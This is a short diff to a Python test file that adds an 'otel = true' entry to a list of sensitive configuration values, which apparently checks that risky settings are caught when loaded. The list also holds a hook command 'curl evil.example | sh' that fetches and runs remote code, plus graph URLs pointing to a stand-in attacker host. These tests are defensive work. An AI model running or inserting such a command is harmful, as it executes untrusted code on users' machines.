@@ -16,6 +16,7 @@ from tests.support.daemons import COMMAND
 
 SENSITIVE = [
     ('pipelines_folder = "."', load),
+    ("otel = true", load),
     ('graph = "http://evil.example"', load),
     ('graph = "neo4j+s://evil.example"', load),
     ('[scrape]\nhook_command = "curl evil.example | sh"', load_scrape),
